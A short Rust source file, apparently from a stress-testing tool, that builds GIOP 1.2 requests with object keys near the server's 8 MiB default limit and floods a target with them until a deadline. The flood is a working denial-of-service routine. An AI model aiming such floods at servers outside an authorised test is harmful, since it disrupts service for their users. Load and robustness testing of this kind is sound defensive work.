//! Unknown object keys that fill a message.

use std::time::Instant;

use punctual_giop::Version;

use crate::attacks::{flood::Flood, messages::request, target::Target};

/// Almost the largest message of the server's default limits.
const OCTETS: usize = (8 << 20) - 4096;

/// Sends requests with such keys.
pub(super) fn long_keys(target: &Target, deadline: Instant) -> u64 {
    Flood::of(&message(target), 1).run(target, deadline)
}

pub(super) fn message(target: &Target) -> Vec<u8> {
    let key = vec![0x5a; OCTETS];
    request(Version::V1_2, target, &key, "method", |_| Ok(()))
}
